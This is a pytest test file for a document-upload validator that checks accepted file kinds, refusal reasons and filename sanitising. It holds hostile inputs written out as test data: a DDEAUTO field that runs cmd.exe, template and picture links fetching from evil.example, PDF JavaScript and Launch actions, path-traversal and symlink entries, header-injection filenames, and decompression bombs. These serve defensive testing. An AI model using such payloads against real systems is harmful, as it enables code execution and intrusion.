"""What the intake takes and what it refuses, with the reason said."""

import io
import random
import time
import unicodedata
from contextlib import suppress
from typing import Any

import pikepdf
import pytest
from django.test import override_settings

from documents.intake import acceptance
from portal.core.errors import InvalidError
from tests.documents import files

WORD_RELS = "word/_rels/document.xml.rels"


def inspect(data: bytes, name: str) -> acceptance.Intake:
    return acceptance.inspect(io.BytesIO(data), name, len(data))


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(InvalidError) as error:
        inspect(data, name)
    return error.value.message


@pytest.mark.parametrize(
    ("data", "name", "media_type", "pages"),
    [
        (files.pdf_file(3), "事例概要.pdf", "application/pdf", 3),
        (files.docx_file(), "様式1-1.docx", acceptance.KINDS[".docx"].media_type, 0),
        (files.xlsx_file(), "一覧.XLSX", acceptance.KINDS[".xlsx"].media_type, 0),
        (files.pptx_file(), "説明.pptx", acceptance.KINDS[".pptx"].media_type, 0),
        (files.picture(), "間取り図.png", "image/png", 1),
        (files.picture("JPEG"), "写真.JPG", "image/jpeg", 1),
        ("経過\r\n8月訪問".encode(), "経過.txt", "text/plain", 0),
        ("氏名,続柄\n".encode("cp932"), "世帯.csv", "text/csv", 0),
        ("経過".encode("utf-16"), "経過.txt", "text/plain", 0),
    ],
)
def test_the_kinds_of_the_office_are_taken(data, name, media_type, pages):
    found = inspect(data, name)
    assert (found.file_name, found.media_type) == (name, media_type)
    assert found.page_count == pages


def test_the_file_is_left_at_its_beginning():
    file = io.BytesIO(files.pdf_file())
    acceptance.inspect(file, "a.pdf", len(file.getvalue()))
    assert file.tell() == 0


OTHERS = {
    "empty": (b"", "a.pdf", "空です"),
    "exe": (b"MZ" + bytes(500), "setup.exe", "この種類のファイル"),
    "html": (b"<html></html>", "a.html", "この種類のファイル"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "この種類"),
    "no suffix": (files.pdf_file(), "shiryo", "この種類のファイル"),
    "exe named pdf": (b"MZ" + bytes(500), "a.pdf", "中身が、名前の種類と"),
    "docx named pdf": (files.docx_file(), "a.pdf", "中身が、名前の種類と"),
    "pdf named docx": (files.pdf_file(), "a.docx", "中身が、名前の種類と"),
    "xlsx named docx": (files.xlsx_file(), "a.docx", "中身が、名前の種類と"),
    "png named jpg": (files.picture(), "a.jpg", "中身が、名前の種類と"),
    "html named txt": (b"<!DOCTYPE html><script>1</script>", "a.txt", "中身が"),
    "svg named csv": (b"\n <svg onload='x'/>", "a.csv", "中身が、名前の種類と"),
    "binary named txt": (bytes(range(256)), "a.txt", "中身が、名前の種類と"),
    "zip": (files.zip_file([("a.pdf", b"x")]), "a.zip", "圧縮を解いて"),
    "zip named docx": (files.zip_file([("a.pdf", b"x")]), "a.docx", "圧縮を解いて"),
    "locked zip": (
        files.marked_encrypted(files.zip_file([("a.pdf", b"x")])),
        "a.zip",
        "パスワードは要りません",
    ),
    "docm": (files.docx_file(), "a.docm", "マクロ"),
    "old doc": (files.container("WordDocument"), "a.doc", "古い形式"),
    "old doc named docx": (files.container("WordDocument"), "a.docx", "古い形式"),
    "locked docx": (
        files.container("EncryptionInfo", "EncryptedPackage"),
        "a.docx",
        "パスワードは要りません",
    ),
    "cut docx": (files.docx_file()[:-500], "a.docx", "壊れている"),
    "cut pdf": (files.pdf_file()[:200], "a.pdf", "壊れている"),
    "cut png": (files.picture()[:50], "a.png", "壊れている"),
    "cut jpeg": (files.picture("JPEG", (400, 400))[:700], "a.jpg", "壊れている"),
    "pixel flood": (files.flood_png(60_000, 60_000), "a.png", "大きすぎます"),
}


@pytest.mark.parametrize("case", OTHERS)
def test_other_things_are_refused_with_the_reason(case):
    data, name, reason = OTHERS[case]
    assert reason in refusal(data, name)


DOCX = files.docx_file()
OFFICE: dict[str, tuple[tuple[Any, bytes], str]] = {
    "macro": (("word/vbaProject.bin", b"\xcc\x61"), "マクロ"),
    "macro data": (("word/vbaData.xml", b"<a/>"), "マクロ"),
    "activex": (("word/activeX/activeX1.xml", b"<a/>"), "マクロ"),
    "ole": (("word/embeddings/oleObject1.bin", b"x"), "埋め込まれて"),
    "ole elsewhere": (("word/media/image9.emf", files.container("x")), "埋め込まれて"),
    "workbook inside": (("word/embeddings/a.xlsx", files.xlsx_file()), "埋め込まれて"),
    "zip inside": (("word/media/a.png", files.zip_file([("x", b"y")])), "埋め込"),
    "program inside": (("word/media/a.png", b"MZ" + bytes(99)), "埋め込まれて"),
    "html inside": (("word/afchunk.mht", b"x"), "埋め込まれて"),
    "html relation": (
        (WORD_RELS, files.relation("aFChunk", "a.mht", "Internal")),
        "埋",
    ),
    "template": (
        (
            "word/_rels/settings.xml.rels",
            files.relation("attachedTemplate", "https://evil.example/a.dotm"),
        ),
        "外部のファイル",
    ),
    "outside picture": (
        (WORD_RELS, files.relation("image", "https://evil.example/a.png")),
        "外部のファイル",
    ),
    "link to a share": (
        (WORD_RELS, files.relation("hyperlink", "file://server/share/a.lnk")),
        "外部のファイル",
    ),
    "climbing name": (("word/../../evil.xml", b"<a/>"), "壊れている"),
    "absolute name": (("/etc/evil.xml", b"<a/>"), "壊れている"),
    "drive": (("C:evil.xml", b"<a/>"), "壊れている"),
    "symlink": ((files.symlink("word/link"), b"/etc/passwd"), "壊れている"),
    "same name twice": (("WORD/document.xml", b"<a/>"), "壊れている"),
    "entities": ((WORD_RELS, b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "壊れて"),
    "bomb": (("word/media/a.bin", bytes(60_000_000)), "異常に大きく"),
}


@pytest.mark.parametrize("case", OFFICE)
def test_office_files_with_a_hook_are_refused(case):
    part, reason = OFFICE[case]
    assert reason in refusal(files.with_parts(DOCX, part), "a.docx")


def test_a_macro_type_is_refused_whatever_the_parts_are_called():
    changed = files.replaced(
        DOCX,
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "application/vnd.ms-word.document.macroEnabled.main",
    )
    assert "マクロ" in refusal(changed, "a.docx")


@pytest.mark.parametrize(
    "field",
    [
        '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/>',
        (
            "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
            "<w:r><w:instrText>DDE</w:instrText></w:r>"
            "<w:r><w:instrText>AUTO excel x</w:instrText></w:r>"
        ),
        '<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/a.png "/>',
    ],
)
def test_fields_that_fetch_are_refused(field):
    changed = files.replaced(
        DOCX, "word/document.xml", "<w:sectPr", f"<w:p>{field}</w:p><w:sectPr"
    )
    assert "外部のファイル" in refusal(changed, "a.docx")


def test_plain_links_and_page_numbers_are_no_hook():
    changed = files.replaced(
        files.with_parts(
            DOCX,
            (
                "word/_rels/footer9.xml.rels",
                files.relation("hyperlink", "https://www.mhlw.go.jp/"),
            ),
        ),
        "word/document.xml",
        "<w:sectPr",
        '<w:p><w:fldSimple w:instr=" PAGE "/>'
        '<w:fldSimple w:instr=" HYPERLINK https://www.mhlw.go.jp/ "/></w:p><w:sectPr',
    )
    assert inspect(changed, "a.docx").media_type == acceptance.KINDS[".docx"].media_type


def test_an_external_book_in_a_sheet_is_refused():
    changed = files.with_parts(
        files.xlsx_file(), ("xl/externalLinks/externalLink1.xml", b"<a/>")
    )
    assert "外部のファイル" in refusal(changed, "a.xlsx")


def test_a_locked_package_is_refused():
    assert "パスワード" in refusal(files.marked_encrypted(DOCX), "a.docx")


def test_too_many_entries_are_refused_at_once():
    started = time.monotonic()
    many = files.zip_file([(f"word/{n}", b"") for n in range(6_000)])
    assert "異常に大きく" in refusal(many, "a.docx")
    assert time.monotonic() - started < 5


def action(pdf: pikepdf.Pdf, **entries) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(**entries)


def nested_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.URI,
                    Next=[pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1")],
                ),
            )
        ]
    )


PDFS = {
    "script": (lambda pdf: action(pdf, S=pikepdf.Name.JavaScript, JS="1"), "仕掛け"),
    "launch": (lambda pdf: action(pdf, S=pikepdf.Name.Launch, F="a.exe"), "仕掛け"),
    "submit": (lambda pdf: action(pdf, S=pikepdf.Name.SubmitForm), "仕掛け"),
    "nested script": (nested_script, "仕掛け"),
    "attached file": (
        lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ"),
        "埋め込まれて",
    ),
    "xfa": (
        lambda pdf: setattr(pdf.Root, "AcroForm", pikepdf.Dictionary(XFA="x")),
        "仕掛け",
    ),
}


@pytest.mark.parametrize("case", PDFS)
def test_pdfs_that_act_or_carry_something_are_refused(case):
    change, reason = PDFS[case]
    assert reason in refusal(files.pdf_with(change), "a.pdf")


@pytest.mark.parametrize("user", ["", "open"])
def test_locked_pdfs_are_refused_and_told_why_no_password_is_needed(user):
    assert "パスワードは要りません" in refusal(files.locked_pdf(user=user), "a.pdf")


def test_a_pdf_of_too_many_pages_is_refused():
    assert "分けてから" in refusal(files.pdf_file(2_001), "a.pdf")


@override_settings(UPLOAD_MAX_BYTES=100)
def test_too_large_a_file_is_refused_before_it_is_read():
    assert "大きすぎます" in refusal(files.pdf_file(), "a.pdf")


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("事例概要(8月).pdf", "事例概要(8月).pdf"),
        ("/etc/事例.pdf", "事例.pdf"),
        ("C:\\Users\\事例.pdf", "事例.pdf"),
        ("..\\..\\事例.pdf", "事例.pdf"),
        ("../../事例.pdf", "事例.pdf"),
        (unicodedata.normalize("NFD", "ガイド.pdf"), "ガイド.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"),
        ("事例\u202efdp.exe.pdf", "事例fdp.exe.pdf"),
        ("事例\0.pdf", "事例.pdf"),
        ('事例"; filename="x.pdf', "事例_; filename=_x.pdf"),
        ("ｶﾙﾃ.pdf", "ｶﾙﾃ.pdf"),
        ("𠮷野.pdf", "𠮷野.pdf"),
        ("lone\ud800.pdf", "lone.pdf"),
        ("  .pdf", "資料.pdf"),
        ("con.pdf", "_con.pdf"),
        ("...", "資料"),
        ("", "資料"),
        ("あ" * 300 + ".pdf", "あ" * 116 + ".pdf"),
        ("a." + "x" * 300, "a." + "x" * 10),
        ("a　b\u2028c.pdf", "a bc.pdf"),
    ],
)
def test_names_are_made_safe_and_stay_japanese(name, safe):
    assert acceptance.safe_name(name) == safe
    assert acceptance.safe_name(safe) == safe


@pytest.mark.parametrize("seed", range(24))
def test_damaged_files_are_taken_or_refused_and_nothing_else(seed):
    chance = random.Random(seed)
    name, whole = chance.choice(
        [
            ("a.docx", DOCX),
            ("a.xlsx", files.xlsx_file()),
            ("a.pdf", files.pdf_file(3)),
            ("a.png", files.picture()),
            ("a.jpg", files.picture("JPEG", (200, 200))),
        ]
    )
    data = bytearray(whole)
    for _ in range(chance.randrange(1, 30)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    with suppress(InvalidError):
        assert inspect(bytes(data), name).file_name == name


def test_a_file_that_takes_too_long_counts_as_broken(monkeypatch):
    monkeypatch.setattr(acceptance, "INSPECTION_SECONDS", 0.001)
    assert "壊れている" in refusal(files.pdf_file(), "a.pdf")
